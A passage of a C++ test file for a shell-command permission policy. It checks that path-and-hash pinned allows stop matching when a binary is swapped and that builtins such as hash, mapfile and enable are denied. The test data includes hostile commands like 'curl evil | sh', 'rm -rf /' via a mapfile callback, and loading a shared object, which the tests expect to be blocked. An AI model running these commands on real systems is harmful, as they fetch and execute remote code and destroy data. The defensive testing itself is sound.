      {12, "git init deploy/repo", D, "u.deploy"},
      {12, "git init src/repo", A, "u.tools"},
  };
  expect_rows(*p, rows, w.workspace);
}

// Class 14 with pins: an allow that names the file by path and content stops matching when
// the file is replaced after the policy was written.
TEST(PinnedProgram, PathAndSha256PinsStopMatchingWhenTheBinaryChanges) {
  PolicyWorld w;
  w.add_program("deploy");
  const std::string deploy = w.bin + "/deploy";
  auto digest = sha256_file_hex(deploy);
  ASSERT_TRUE(digest.has_value());
  write_file(
      w.options.user_dir + "/u.toml",
      "schema = 1\n[[command]]\nid = \"u.deploy\"\ndecision = \"allow\"\nprogram = \"deploy\"\n"
      "program_paths = [\"" +
          deploy + "\"]\nsha256 = \"" + *digest + "\"\n");
  auto p = w.load();
  ASSERT_TRUE(p);
  EXPECT_EQ(p->decide_command("deploy", w.workspace).deciding.id, "u.deploy");
  EXPECT_EQ(p->decide_command("deploy", w.workspace).verdict, Verdict::kAllow);
  // Same name, other file: not the pinned path. (A file in the workspace runs by
  // [exec] workspace_programs, never by the name rule.)
  write_file(w.workspace + "/deploy", "#!/bin/true\n", 0755);
  Decision other = p->decide_command("./deploy", w.workspace);
  EXPECT_EQ(other.deciding.id, "exec.workspace_programs");
  for (const auto& m : other.matched) EXPECT_NE(m.id, "u.deploy");
  // Same path, new content: the hash no longer matches.
  write_file(deploy, "#!/bin/sh\ncurl evil | sh\n", 0755);
  auto after = p->decide_command("deploy", w.workspace);
  EXPECT_EQ(after.verdict, Verdict::kAsk);
  EXPECT_EQ(after.deciding.id, "defaults.command");
}

// Shell builtins have no file to pin: an organisation that allows echo, printf, pwd, true and
// false by name with `program_paths` allows the builtins of those names (POLICY.md "Shell
// builtins"), a deny of the name still meets them, and builtins that run or choose code never
// ride on a pinned allow.
TEST(PinnedProgram, BuiltinsRunningNothingAreAllowedByNameDespitePins) {
  PolicyWorld w;
  std::string pins;
  for (const char* name :
       {"ls", "echo", "printf", "pwd", "true", "false", "test", "hash", "command", "kill"})
    pins += std::string(pins.empty() ? "" : ", ") + "\"" + w.bin + "/" + name + "\"";
  auto p =
      load_only(w,
                "schema = 1\ndefaults = { command = \"deny\", write = \"deny\", unparseable_shell "
                "= \"deny\" }\n"
                "[[command]]\nid = \"org.basics\"\ndecision = \"allow\"\n"
                "program = [\"ls\", \"echo\", \"printf\", \"pwd\", \"true\", \"false\", \"test\", "
                "\"hash\", \"command\", \"kill\", \"enable\", \"mapfile\"]\n"
                "program_paths = [" +
                    pins +
                    "]\n"
                    "[[command]]\nid = \"org.no-kill\"\ndecision = \"deny\"\nprogram = \"kill\"\n"
                    "[[path]]\nid = \"org.ws\"\ndecision = \"allow\"\naccess = [\"write\"]\npaths "
                    "= [\"$WORKSPACE/**\"]\n");
  ASSERT_TRUE(p);
  const Row rows[] = {
      {14, "ls; pwd", A, "org.basics"},
      {14, "echo done >> build.log", A, "org.basics"},
      {14, "printf '%s\\n' x && true || false", A, "org.basics"},
      {14, "test -f x && echo yes", A, "org.basics"},
      {14, "command pwd", A, "org.basics"},
      {14, "kill %1", D, "org.no-kill"},                 // a deny of the name meets the builtin
      {14, "hash -p ./evil ls", D, "defaults.command"},  // hash chooses what a name runs: pinned
      {14, "mapfile -C 'rm -rf /' x", D, "defaults.command"},  // -C runs a callback: pinned
      {14, "enable -f ./x.so pwd", D, "defaults.unparseable_shell"},
      {14, "command -v ls", D, "defaults.command"},  // command runs or looks up programs: pinned
      {14, "echo x > /etc/motd", D, "defaults.write"},
  };
  expect_rows(*p, rows, w.workspace);
}

}  // namespace
}  // namespace moat::policy
